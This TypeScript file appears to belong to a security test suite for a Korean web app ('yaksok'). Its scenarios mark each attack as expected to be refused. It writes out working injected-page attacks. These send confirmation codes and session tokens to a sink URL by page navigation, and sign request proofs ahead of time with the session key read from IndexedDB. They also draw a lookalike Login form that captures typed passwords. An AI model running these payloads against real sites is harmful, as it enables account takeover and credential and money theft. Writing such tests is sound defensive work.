/** To send out what another browser could use: there an attacker, who has learned both passwords, tries to confirm with it. */
import { changed, type Given, got, type Way } from '../way.ts'
import { base64url, call, part, sessionNow, sinkUrl, tokenNow, wait } from './page.ts'
import { put } from './sending.ts'

const CONFIRMS = {
  harm: 'credentials',
  expected: 'refused',
  framed: { senseless: 'nothing of it gets out of a frame (*Send*)' },
  // one whose passwords are not public (docs/decisions/078-confirm-origin.md)
  rows: {
    put: 'update members set sample = false where username = $1',
    remove: 'update members set sample = true where username = $1',
  },
  elsewhere: true,
  succeeded: changed('credentials', 'money', 'confirmed'),
} as const

/** By the address of the page, which no policy stops. */
const sendOut = (given: Given, what: object) =>
  location.assign(sinkUrl(given, `/?${encodeURIComponent(JSON.stringify(what))}`))

/** The session's key, which signs for code in the page as for the shell. */
async function keyOf(session: string): Promise<CryptoKey> {
  const asked = <Result>(request: IDBRequest<Result>) =>
    new Promise<Result>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result)
      request.onerror = reject
    })
  const database = await asked(indexedDB.open('yaksok'))
  return asked(database.transaction('session-keys').objectStore('session-keys').get(session))
}

/** A proof for a call, at a time that may be to come. */
async function proofOf(path: string, aheadMs = 0): Promise<string> {
  const session = await sessionNow()
  const [time, nonce] = [Date.now() + aheadMs, base64url(crypto.getRandomValues(new Uint8Array(16)).buffer)]
  const bytes = new TextEncoder().encode(['yaksok-proof-1', 'POST', `/api/${path}`, time, nonce, session].join('\n'))
  const signed = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, await keyOf(session), bytes)
  return `${time}.${nonce}.${base64url(signed)}`
}

/** Sends a code that the page asks for as the shell does. */
async function sendCode(given: Given, headers: Record<string, string> = {}): Promise<void> {
  const code = part(await call('/member/confirm', {}, { headers }), /"code":"([\w-]{43})"/)
  sendOut(given, { token: tokenNow(), code })
}

/** A proof is good for a minute before and after its time. */
const AHEAD_MS = 30_000

async function signAhead(given: Given): Promise<void> {
  const paths = ['member/confirm', 'getBankBind', 'user_set_withdraw']
  const proofs = await Promise.all(paths.map(async (path) => [path, await proofOf(path, AHEAD_MS)]))
  sendOut(given, { token: tokenNow(), proofs: Object.fromEntries(proofs) })
}

/** Shows something that looks like Login, and sends the password that is typed there. */
function drawLogin(given: Given): void {
  history.replaceState(null, '', '/Login')
  document.body.replaceChildren()
  const form = put('form', {})
  put('input', { 'aria-label': '아이디' }, form)
  const field = put('input', { 'aria-label': '비밀번호', type: 'password' }, form) as HTMLInputElement
  put('button', {}, form).textContent = '로그인'
  form.onsubmit = (event) => {
    event.preventDefault()
    sendOut(given, { password: field.value })
  }
}

export const secondBrowser: Way[] = [
  {
    ...CONFIRMS,
    id: 'code-sent-out',
    wants: 'another browser to confirm for the session, by a code that it asks for and sends out, and both passwords',
    run: (given) => sendCode(given),
  },
  {
    ...CONFIRMS,
    id: 'code-right-after-login',
    wants: 'the same right after a login, before any browser is bound',
    login: 'unbound',
    run: async (given) => sendCode(given, { proof: await proofOf('member/confirm') }),
  },
  {
    ...CONFIRMS,
    id: 'proofs-ahead-confirm',
    wants: 'another browser to confirm for a session with a key, by proofs that the page signs ahead and sends out',
    login: 'bound',
    run: signAhead,
  },
  {
    ...CONFIRMS,
    id: 'proofs-ahead-read',
    wants: 'another browser to read, by the same',
    harm: 'reads',
    expected: {
      limited:
        'each proof is for one call at one time, which the page has named: they read and play, and confirm nothing',
    },
    login: 'bound',
    run: signAhead,
    succeeded: got('screen'),
  },
  {
    ...CONFIRMS,
    id: 'lookalike-login-elsewhere',
    wants: 'to log in elsewhere with what is typed on a lookalike of Login, and to confirm there',
    after: 'types a login',
    run: async (given) => {
      await wait(500)
      drawLogin(given)
    },
  },
  {
    ...CONFIRMS,
    id: 'passwords-elsewhere',
    wants: 'to log in elsewhere with passwords that it learned before, and to confirm there',
    run: (given) => sendOut(given, { password: given.known.password }),
  },
]
